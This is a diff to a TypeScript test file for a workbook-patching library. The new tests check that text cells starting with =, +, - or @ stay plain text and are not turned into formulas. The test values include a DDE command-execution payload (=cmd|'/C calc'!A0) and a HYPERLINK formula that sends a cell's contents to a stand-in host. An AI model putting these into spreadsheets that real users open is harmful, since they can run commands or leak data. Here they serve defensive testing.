@@ -165,9 +165,20 @@ describe("cells and rows", () => {
     const anyText = fc
       .oneof(
         fc.string({ unit: "binary" }),
-        fc.constantFrom(" 前后空格 ", "第一行\n第二行", "_x0041_", "a\u0001b", "<&>\"'"),
+        fc.constantFrom(
+          " 前后空格 ",
+          "第一行\n第二行",
+          "_x0041_",
+          "a\u0001b",
+          "<&>\"'",
+          "=1+1",
+          "=",
+          "+1",
+          "-甲",
+          "@SUM(A1)",
+        ),
       )
-      .filter((text) => !text.startsWith("=") && text !== "" && !text.includes("\r"));
+      .filter((text) => text !== "" && !text.includes("\r"));
     fc.assert(
       fc.property(anyText, (text) =>
         expect(cellIn(patchWorkbook(workbookFile({ 表1: rows }), [edit("表1!A2", 1, text)]), "表1!A2")?.value).toBe(
@@ -176,6 +187,26 @@ describe("cells and rows", () => {
       ),
       { numRuns: 60 },
     );
+  });
+
+  test.each([
+    "=财政业务费",
+    '=HYPERLINK("http://a.example/"&F12,"详情")',
+    "=cmd|'/C calc'!A0",
+    "+1",
+    "-1",
+    "@a",
+    " =1+1",
+    "＝1",
+  ])("a text %j stays one, also when someone edits the cell in Excel; a formula in its place is one again", (text) => {
+    const plain = '<sheetData><row r="2"><c r="A2"><v>1</v></c></row></sheetData>';
+    const written = patchWorkbook(workbookFile({ 表1: plain }), [edit("表1!A2", 1, text)]);
+    expect(sheetXml(written)).not.toContain("<f>");
+    expect(cellIn(written, "表1!A2")).toMatchObject({ value: text, formula: null });
+    expect(partsOf(written)["xl/styles.xml"]).toMatch(/<xf [^>]*numFmtId="0"[^>]*quotePrefix="1"/u);
+    const formula = patchWorkbook(written, [edit("表1!A2", text, { formula: "=1+1" })]);
+    expect(sheetXml(formula)).toContain("<f>1+1</f>");
+    expect(partsOf(formula)["xl/styles.xml"]?.match(/<xf [^>]*>/gu)?.[3]).not.toContain("quotePrefix");
   });
 
   test("every finite number comes back as the same number", () => {
@@ -225,7 +256,7 @@ describe("number formats", () => {
     const rich =
       '<sheetData><row r="1"><c r="A1"><f>1+1</f><v>2</v></c><c r="B1" t="inlineStr"><is><r><rPr><b/></rPr><t>元</t></r></is></c></row></sheetData>';
     const after = patchWorkbook(workbookFile({ 表1: rich }), [
-      edit("表1!A1", "=1+1", "=1+1", "0.00"),
+      edit("表1!A1", { formula: "=1+1" }, { formula: "=1+1" }, "0.00"),
       edit("表1!B1", "元", "元", "@"),
     ]);
     expect(sheetXml(after)).toBe(
@@ -272,14 +303,14 @@ describe("formulas", () => {
   });
 
   test("replacing the first of shared formulas writes the others out", () => {
-    const after = patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!A1", '=SUM(B1,$C$1,"B1")', 7)]);
+    const after = patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!A1", { formula: '=SUM(B1,$C$1,"B1")' }, 7)]);
     expect(cellIn(after, "表1!A1")).toMatchObject({ value: 7, formula: null });
     expect(cellIn(after, "表1!A2")?.formula).toBe('=SUM(B2,$C$1,"B1")');
     expect(cellIn(after, "表1!A3")).toMatchObject({ value: 3, formula: '=SUM(B3,$C$1,"B1")' });
   });
 
   test("replacing another of them leaves the rest shared", () => {
-    const after = patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!A2", "=SUM(…)", null)]);
+    const after = patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!A2", { formula: "=SUM(…)" }, null)]);
     expect(sheetXml(after)).toBe(shared.replace('<c r="A2"><f t="shared" si="0"/><v>2</v></c>', '<c r="A2"/>'));
   });
 
@@ -293,7 +324,7 @@ describe("formulas", () => {
 
   test("the order of calculation goes with a formula that goes, else it stays", () => {
     expect(Object.keys(partsOf(patchWorkbook(chained(), [edit("表1!B1", null, 5)])))).toContain("xl/calcChain.xml");
-    const after = partsOf(patchWorkbook(chained(), [edit("表1!A1", "=SUM(…)", 7)]));
+    const after = partsOf(patchWorkbook(chained(), [edit("表1!A1", { formula: "=SUM(…)" }, 7)]));
     expect(Object.keys(after)).not.toContain("xl/calcChain.xml");
     expect(after["[Content_Types].xml"]).not.toContain("calcChain");
     expect(after["xl/_rels/workbook.xml.rels"]).not.toContain("calcChain");
@@ -301,7 +332,8 @@ describe("formulas", () => {
 
   test("a formula can be written", () => {
     expect(
-      cellIn(patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!D9", null, '=A1&"<"')]), "表1!D9")?.formula,
+      cellIn(patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!D9", null, { formula: '=A1&"<"' })]), "表1!D9")
+        ?.formula,
     ).toBe('=A1&"<"');
   });
 
@@ -309,7 +341,7 @@ describe("formulas", () => {
     const array =
       '<sheetData><row r="1"><c r="A1"><f t="array" ref="A1:B1">C1:D1</f><v>1</v></c><c r="B1"><v>2</v></c></row></sheetData>';
     expect(refusal(array, edit("表1!B1", 2, 5)).reason).toBe("array-formula");
-    expect(refusal(array, edit("表1!A1", "=C1:D1", 5)).reason).toBe("array-formula");
+    expect(refusal(array, edit("表1!A1", { formula: "=C1:D1" }, 5)).reason).toBe("array-formula");
   });
 });
 
